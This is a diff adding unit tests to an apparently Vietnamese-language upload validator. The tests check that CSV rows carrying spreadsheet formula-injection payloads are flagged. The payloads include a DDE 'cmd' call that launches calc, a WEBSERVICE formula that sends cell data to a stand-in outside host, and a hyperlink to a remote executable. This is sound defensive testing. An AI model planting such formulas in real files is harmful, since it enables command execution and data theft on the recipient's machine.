@@ -132,6 +132,23 @@ describe('the bytes of a download', () => {
     expect(otherFormat('txt', Buffer.from(text))).toBeNull();
   });
 
+  test.each([
+    `Lớp,"=cmd|' /C calc'!A0"`,
+    "=cmd|'/C calc'!A0;25",
+    'Mầm,=WEBSERVICE("https://noi-khac.example/"&A1)',
+    'Mầm;"+HYPERLINK(""file://may-chu/a.exe"";""Xem"")"',
+    'Mầm,  =HYPERLINK("https://bo.gov.vn@noi-khac.example","Xem")',
+  ])('is no table with the formula %s, which a spreadsheet would run', (row) => {
+    expect(issuesOf('a.csv', `Lớp,Số trẻ\n${row}\n`)).toEqual([
+      expect.stringMatching(/^1 tai-ve-van-phong-co-them dòng 2 có (?:công thức|liên kết)/u),
+    ]);
+  });
+
+  test('may be a table with figures, and formulas that only count or lead to a page', () => {
+    const rows = ['-5,+3', '=1+2,=SUM(A1:A2)', '- Xem IMAGE, @lop', 'a,"=HYPERLINK(""https://vbpl.vn/"",""Xem"")"'];
+    expect(issuesOf('a.csv', `Lớp,Số trẻ\n${rows.join('\n')}\n`)).toEqual([]);
+  });
+
   test('may be a text with a sign that a page has, too', () => {
     for (const text of ['Trẻ < 3 tuổi, > 12 kg', 'Số trẻ <5', 'Gửi về <lop@truong.example>', 'bảng <Lớp>, <objective>'])
       expect(otherFormat('txt', Buffer.from(text))).toBeNull();
